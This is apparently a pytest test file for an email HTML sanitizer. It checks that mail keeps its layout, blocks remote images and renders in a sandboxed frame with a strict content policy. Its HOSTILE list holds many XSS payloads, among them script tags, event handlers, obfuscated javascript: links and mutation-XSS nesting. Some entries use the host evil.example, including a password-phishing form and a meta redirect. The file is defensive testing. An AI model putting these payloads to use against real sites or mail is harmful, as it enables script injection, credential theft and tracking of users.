"""Nothing in a letter runs, loads or leaves its frame."""

import time

import pytest

from services.email import FRAME_SANDBOX, frame_document, safe_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background-image:url(https://evil.example/x)">x</div>',
    '<div style="color:red;list-style-image:url(https://evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    r'<div style="font-family:u\72l(https://evil.example)">x</div>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
    '<img srcset="https://evil.example/x 2x">',
    '<picture><source srcset="https://evil.example/x"></picture>',
    '<video src="https://evil.example/x" poster="https://evil.example/y"></video><audio src="https://evil.example/x">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="//evil.example/x">',
    "<body onload=alert(1)><p onclick=alert(1)>x",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "</body></html><script>alert(1)</script>",
    '<p id="x" class="y" name="z">x</p>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
)
FORBIDDEN = (
    *("<script", "onerror", "onload", "onclick", "javascript", "vbscript", "data:text", "svg", "<iframe", "<object"),
    *(
        "<embed",
        "<form",
        "<input",
        "<button",
        "<meta",
        "<base",
        "<link",
        "<style",
        "url(",
        "evil.example",
        "expression",
    ),
    *("srcset", "srcdoc", "background=", "<!--", "</body", "id=", "class=", "name=", "<template", "\\"),
)


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("show_images", [False, True])
def test_hostile_html_is_harmless(html: str, show_images: bool) -> None:
    cleaned = safe_html(html, show_images=show_images).html.lower()
    assert [mark for mark in FORBIDDEN if mark in cleaned] == []


def test_what_is_cleaned_stays_clean_when_it_is_cleaned_again() -> None:
    for html in HOSTILE:
        once = safe_html(html).html
        again = safe_html(once).html
        assert sorted(again) == sorted(once)  # attributes come in any order


def test_a_letter_keeps_its_looks() -> None:
    html = (
        '<table width="600" cellpadding="4"><tr><td align="center" style="color:#123456;padding:4px">'
        "<h1>Hello</h1><p><b>Bold</b> <i>and</i> <u>more</u></p><ul><li>One</li></ul></td></tr></table>"
    )
    cleaned = safe_html(html).html
    for mark in ('width="600"', 'align="center"', "color:#123456", "padding:4px", "<h1>Hello</h1>", "<li>One</li>"):
        assert mark in cleaned


def test_links_open_elsewhere_and_do_not_tell_where_from() -> None:
    cleaned = safe_html('<a href="https://example.com/x?y=1" target="_top" rel="opener">x</a>').html
    assert 'href="https://example.com/x?y=1"' in cleaned and 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned and "_top" not in cleaned
    assert "mailto:ana@example.com" in safe_html('<a href="mailto:ana@example.com">x</a>').html


def test_pictures_from_elsewhere_are_blocked_counted_and_shown_on_demand() -> None:
    html = '<img src="https://a.example/1.png" alt="One"><img src="http://a.example/2.png"><img src="cid:x">'
    blocked, shown = safe_html(html), safe_html(html, show_images=True)
    assert (blocked.blocked_images, "a.example" in blocked.html, 'alt="One"' in blocked.html) == (2, False, True)
    assert "https://a.example/1.png" in shown.html
    assert (shown.blocked_images, "http://" in shown.html) == (1, False)


def test_pictures_within_the_letter_are_shown() -> None:
    picture = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert "data:image/png;base64,iVBORw0KGgo=" in safe_html(picture).html


def test_the_document_brings_its_own_walls() -> None:
    document = frame_document(safe_html("<p>Hello</p>"))
    assert "default-src 'none'" in document and "img-src data:;" in document and "script-src" not in document
    assert "img-src data: https:" in frame_document(safe_html("<p>x</p>"), show_images=True)
    assert "no-referrer" in document and document.startswith("<!doctype html>")
    assert "allow-scripts" not in FRAME_SANDBOX and "allow-same-origin" not in FRAME_SANDBOX
    assert "allow-forms" not in FRAME_SANDBOX and "top-navigation" not in FRAME_SANDBOX


def test_nothing_to_show_is_no_document() -> None:
    assert frame_document(safe_html(" <script>x</script> ")) == ""


@pytest.mark.parametrize(
    "html", ["<div>" * 200_000, "<div>" * 19_000, "a" * 2_000_000, "<b><p>" * 9_000, "&" * 900_000]
)
def test_a_huge_letter_takes_no_time(html: str) -> None:
    started = time.process_time()
    safe_html(html)
    assert time.process_time() - started < 3
